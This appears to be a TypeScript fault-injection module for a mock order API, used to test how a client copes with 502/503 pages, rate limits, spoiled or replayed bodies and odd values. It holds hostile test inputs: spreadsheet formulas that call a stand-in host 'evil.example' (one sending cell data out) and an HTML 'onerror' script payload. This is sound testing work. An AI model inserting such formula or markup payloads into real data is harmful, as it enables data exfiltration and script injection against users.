import { type ApiRequest, type ApiResponse, errorResponse } from "./exchange";
import type { FaultKind } from "./faults";
import type { Order } from "./order";
import { rateLimitHeaders } from "./rate-limit";

/** A number that a spreadsheet would take for a formula, were it written as it is. */
export const formulaNumber = '=HYPERLINK("https://evil.example/?"&A1,"#1")';
/** A number that a page would run as a script, were it shown as HTML. */
export const markupNumber = '<img src=x onerror="alert(1)">';
/** A message that a spreadsheet would take for a formula. */
export const formulaMessage = '=IMPORTXML("https://evil.example/","//a")';

const badGateway =
  "<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n<center><h1>502 Bad Gateway</h1></center>\r\n" +
  "<hr><center>nginx</center>\r\n</body>\r\n</html>\r\n";

/** The total of a list that a client must not believe. */
export const absurdTotal = 3_000_000_000;
/** The seconds until a window's end that a client must not wait for. */
export const absurdResetSeconds = 999_999_999;
/** How many characters an ID has under the fault `long-id`. */
export const longIdLength = 60_000;

/** The answer that comes in place of the API's own, for a fault that has one of its own; null for the others. */
export function answerInstead(fault: FaultKind, request: ApiRequest): ApiResponse | null {
  switch (fault) {
    case "502-before":
    case "502-after":
      return { status: 502, headers: { "Content-Type": "text/html" }, body: badGateway };
    case "503-before":
    case "503-after":
      return errorResponse(503, "SERVICE_UNAVAILABLE", "The service is temporarily unavailable");
    case "redirect":
      return { status: 302, headers: { Location: "https://maintenance.example/" }, body: "" };
    case "429":
      return tooMany({});
    case "429-retry-after":
      return tooMany({ "Retry-After": "30" });
    case "429-absurd-reset":
      return tooMany(
        rateLimitHeaders({ allowed: false, limit: 100, remaining: 0, resetSeconds: absurdResetSeconds }),
      );
    case "key-echo":
      return errorResponse(400, "VALIDATION_ERROR", `x-api-key: ${request.headers["x-api-key"]} is odd`);
    case "formula-message":
      return errorResponse(400, "VALIDATION_ERROR", formulaMessage);
    default:
      return null;
  }
}

function tooMany(headers: Record<string, string>): ApiResponse {
  const response = errorResponse(429, "RATE_LIMIT_EXCEEDED", "Too many requests");
  return { ...response, headers: { ...response.headers, ...headers } };
}

/** What a lying answer is taken from. */
export interface OtherAnswers {
  /** The body of the 201 before this one; null if there was none. */
  before: string | null;
  /** The shop's first order; null if it has none. */
  firstOrder: Order | null;
}

/** A success as a fault spoils it. Any other answer, and any other fault, leaves it as it is. */
export function spoil(response: ApiResponse, fault: FaultKind, others: OtherAnswers): ApiResponse {
  if (response.status < 200 || response.status > 299) return response;
  switch (fault) {
    case "garbage":
      return { ...response, body: response.body.slice(0, Math.ceil(response.body.length / 2)) };
    case "empty":
      return { ...response, body: "" };
    case "no-id":
      return { ...response, body: withoutFields(response.body, ["id"]) };
    case "no-echo":
      return { ...response, body: withoutFields(response.body, ["notes", "tags"]) };
    case "replayed":
      return { ...response, body: others.before ?? response.body };
    case "others-order":
      return { ...response, body: JSON.stringify({ data: others.firstOrder }) };
    case "same-id":
      return { ...response, body: withFields(response.body, "data", { id: others.firstOrder?.id }) };
    case "absurd-total":
      return { ...response, body: withFields(response.body, "meta", { total: absurdTotal }) };
    default:
      return response;
  }
}

/** What a fault makes odd about the order that it lets through. */
export function oddOrder(fault: FaultKind | null): { orderNumber?: string; idLength?: number } {
  if (fault === "formula-number") return { orderNumber: formulaNumber };
  if (fault === "long-id") return { idLength: longIdLength };
  return fault === "markup-number" ? { orderNumber: markupNumber } : {};
}

/** The body with fields of its `data` or `meta` replaced; as it was if it has no such object. */
function withFields(body: string, name: "data" | "meta", fields: object): string {
  const answer: unknown = JSON.parse(body);
  if (typeof answer !== "object" || answer === null) return body;
  const part = Object.entries(answer).find(([key]) => key === name)?.[1];
  if (typeof part !== "object" || part === null || Array.isArray(part)) return body;
  return JSON.stringify({ ...answer, [name]: { ...part, ...fields } });
}

function withoutFields(body: string, names: string[]): string {
  const answer: unknown = JSON.parse(body);
  if (typeof answer !== "object" || answer === null || !("data" in answer)) return body;
  const { data } = answer;
  if (typeof data !== "object" || data === null || Array.isArray(data)) return body;
  const kept = Object.entries(data).filter(([name]) => !names.includes(name));
  return JSON.stringify({ ...answer, data: Object.fromEntries(kept) });
}
